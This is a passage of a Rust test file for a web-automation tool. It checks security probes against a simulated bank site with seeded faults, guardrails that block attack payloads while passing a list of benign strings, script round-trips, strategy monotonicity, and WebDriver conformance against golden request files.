    "C++ and Rust developer",
    "https://example.com/docs?page=2",
    "The online store opens at nine",
    "Select your size",
    "Drop-off at the front desk",
    "Union Station, platform 4",
    "Update my shipping address",
    "Hello, world!",
    "5 < 7 and 9 > 3",
    "Tom & Jerry",
    "email: me@site.test",
    "Password reset requested",
    "Ship to: 10 Downing St",
    "{\"key\": \"value\"}",
    "Let's meet or call tomorrow",
    "Say \"hello\" to everyone",
    "Notes: javascript course next week",
    "a-b_c.d",
    "100 USD",
    "Café au lait",
    "Δ = 0.5",
    "Bring snacks; drinks provided",
    "2024-05-01T12:00:00Z",
];

fn c9_security() -> Outcome_ {
    let dir = site_dir("bank");
    let specs: Vec<ProbeSpec> =
        serde_json::from_str(&std::fs::read_to_string(dir.join("probes.json")).unwrap()).unwrap();
    let faulted = SimSite::load(&dir).unwrap();
    let hardened = SimSite::compile(faulted.model.hardened(), &dir).unwrap();
    let hints = AuthHints::from(faulted.model.auth.as_ref().ok_or("bank has no accounts")?);
    let guardrails = Guardrails::builtin();
    let probe = |site: &Arc<SimSite>, desc: &str| {
        let plan = plan_probe(desc, &site.scrape_all(), &site.url_for("/"), &hints).unwrap();
        let mut session = site.open_session(SimClock::new());
        execute_probe(&plan, &mut session, &guardrails).unwrap()
    };
    let seeded: Vec<&ProbeSpec> = specs.iter().filter(|s| s.seeded).collect();
    let kinds: BTreeSet<String> = faulted.model.faults.iter().map(|f| format!("{:?}", f.kind)).collect();
    let want_kinds: BTreeSet<String> =
        [FaultKind::IdorExposure, FaultKind::MissingAuthCheck, FaultKind::SessionFixation]
            .iter()
            .map(|k| format!("{k:?}"))
            .collect();
    ensure!(kinds == want_kinds, "bank faults {kinds:?}");
    ensure!(seeded.len() == 3, "{} seeded probes", seeded.len());
    let mut vulnerable = 0;
    for spec in &specs {
        let f = probe(&faulted, &spec.description);
        ensure!(f.owasp == spec.owasp, "{:?} planned as {:?}", spec.description, f.owasp);
        if spec.seeded {
            ensure!(f.verdict == Verdict::Vulnerable, "seeded {:?} judged {:?}", spec.description, f.verdict);
            ensure!(!f.evidence.matched.is_empty(), "{:?} has no evidence", spec.description);
            ensure!(f.reproduction.is_some(), "{:?} has no reproduction", spec.description);
            vulnerable += 1;
        } else {
            ensure!(f.verdict != Verdict::Vulnerable, "unseeded {:?} judged vulnerable", spec.description);
        }
        let h = probe(&hardened, &spec.description);
        ensure!(h.verdict != Verdict::Vulnerable, "hardened {:?} judged vulnerable", spec.description);
    }

    let mut blocked = 0;
    for (category, payloads) in ATTACKS {
        for p in payloads {
            ensure!(guardrails.validate(p).is_block(), "{category} payload {p:?} allowed");
            blocked += 1;
        }
    }
    for b in BENIGN {
        ensure!(!guardrails.validate(b).is_block(), "benign {b:?} blocked: {:?}", guardrails.validate(b));
    }
    Ok(format!(
        "{vulnerable}/3 seeded found with evidence, 0/{} on hardened; guardrails blocked {blocked}/{blocked}, passed {}/{} benign",
        specs.len(),
        BENIGN.len(),
        BENIGN.len()
    ))
}

// ----------------------------------------------------------- criterion 10

fn trajectory(site: &Arc<SimSite>, s: &TestScript) -> String {
    let (result, clock, mut browser) = run_on(site, s);
    format!(
        "{}\n{}\n{}\n{}",
        to_canonical_pretty(&result),
        browser.current_url().unwrap_or_default(),
        browser.page_source().unwrap_or_default(),
        clock.now_ms()
    )
}

fn c10_round_trips() -> Outcome_ {
    let mut scripts = 0;
    for r in ablation() {
        for (name, s, run) in &r.runs {
            let text = serialize_script(s);
            let back = parse_script(&text).map_err(|e| format!("{name}: {e}"))?;
            ensure!(back == *s && serialize_script(&back) == text, "{name} script does not round-trip");
            let result = to_canonical_pretty(&run.result);
            let decoded: ExecutionResult = serde_json::from_str(&result).unwrap();
            ensure!(to_canonical_pretty(&decoded) == result, "{name} result does not round-trip");
            scripts += 1;
        }
    }
    let cfg = PipelineConfig::default();
    let mut reports = 0;
    let mut runs = 0;
    for entry in &corpus().entries {
        for (name, s, _) in
            row(StrategyMask::NONE).runs.iter().filter(|(n, _, _)| n.starts_with(&format!("{}/", entry.name)))
        {
            let report = strategy3_validate(s, &entry.context, &cfg);
            let text = to_canonical_pretty(&report);
            let back: ValidationReport = serde_json::from_str(&text).unwrap();
            ensure!(back == report && to_canonical_pretty(&back) == text, "{name} report does not round-trip");
            reports += 1;
            let enhanced = &row(StrategyMask::ALL).runs.iter().find(|(n, _, _)| n == name).unwrap().1;
            for candidate in [s, enhanced] {
                ensure!(trajectory(&entry.site, candidate) == trajectory(&entry.site, candidate), "{name} run differs");
                runs += 1;
            }
        }
    }
    Ok(format!(
        "{scripts} scripts and {reports} reports round-trip byte-exactly; {runs} trajectories repeat bit-identically"
    ))
}

// ----------------------------------------------------------- criterion 11

fn c11_monotonicity() -> Outcome_ {
    let success = |m: StrategyMask| row(m).summary.totals.succeeded;
    let mut pairs = 0;
    for bits in 0u8..16 {
        for add in [1u8, 2, 8] {
            if bits & add != 0 {
                continue;
            }
            let (m, plus) = (StrategyMask::from_bits(bits), StrategyMask::from_bits(bits | add));
            ensure!(
                success(plus) >= success(m),
                "{} ({}) < {} ({})",
                plus.label(),
                success(plus),
                m.label(),
                success(m)
            );
            pairs += 1;
        }
    }
    let (all, none) = (row(StrategyMask::ALL).summary.success_rate(), row(StrategyMask::NONE).summary.success_rate());
    let gain = (all - none) * 100.0;
    ensure!(gain >= 30.0, "S1-S4 gains only {gain:.1} points");
    Ok(format!("{pairs} mask pairs monotone; none {:.1}% -> all {:.1}% (+{gain:.1} points)", none * 100.0, all * 100.0))
}

// ----------------------------------------------------------- criterion 12

fn golden_requests() -> Vec<(&'static str, WireRequest)> {
    vec![
        ("new_session_headless", protocol::new_session(Some("firefox"), true)),
        ("new_session_plain", protocol::new_session(None, false)),
        ("delete_session", protocol::delete_session("abc123")),
        ("navigate_to", protocol::navigate_to("abc123", "https://example.com/contact")),
        ("get_current_url", protocol::get_current_url("abc123")),
        ("get_page_source", protocol::get_page_source("abc123")),
        ("get_named_cookie", protocol::get_named_cookie("abc123", "session")),
        ("find_elements", protocol::find_elements("abc123", "nav a[href=\"/contact\"]")),
        ("element_click", protocol::element_click("abc123", "el-7")),
        ("element_clear", protocol::element_clear("abc123", "el-7")),
        ("element_send_keys", protocol::element_send_keys("abc123", "el-7", "ana@example.com")),
        ("get_element_text", protocol::get_element_text("abc123", "el-7")),
        ("is_element_displayed", protocol::is_element_displayed("abc123", "el-7")),
        ("execute_sync", protocol::execute_sync("abc123", "return 1;", "el-7")),
    ]
}

fn c12_webdriver() -> Outcome_ {
    let site = conformance::site();
    let origin = site.origin().as_str().trim_end_matches('/').to_string();
    let want = conformance::expected(&origin);

    let mut sim = site.open_session(SimClock::new());
    let direct = conformance::run(&mut sim, &origin);
    ensure!(direct == want, "sim diverges: {direct:?}");

    let clock = SimClock::new();
    let server = MockServer::start(site.clone(), clock.clone()).map_err(|e| e.to_string())?;
    let mut wd =
        WebDriverBrowser::connect(RemoteConfig::new(server.url()), Arc::new(clock)).map_err(|e| e.to_string())?;
    let remote = conformance::run(&mut wd, &origin);
    ensure!(remote == want, "webdriver diverges: {remote:?}");

    let golden_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../webdriver/tests/golden");
    let files = std::fs::read_dir(&golden_dir).map_err(|e| e.to_string())?.count();
    let requests = golden_requests();
    ensure!(files == requests.len(), "{files} golden files, {} requests checked", requests.len());
    for (name, req) in &requests {
        let golden = std::fs::read(golden_dir.join(format!("{name}.txt"))).map_err(|e| e.to_string())?;
        ensure!(req.to_bytes() == golden, "{name} bytes differ from the recording");
    }
    Ok(format!(
        "{} contract observations identical on both backends; {} golden requests match",
        want.len(),
        requests.len()
    ))
}
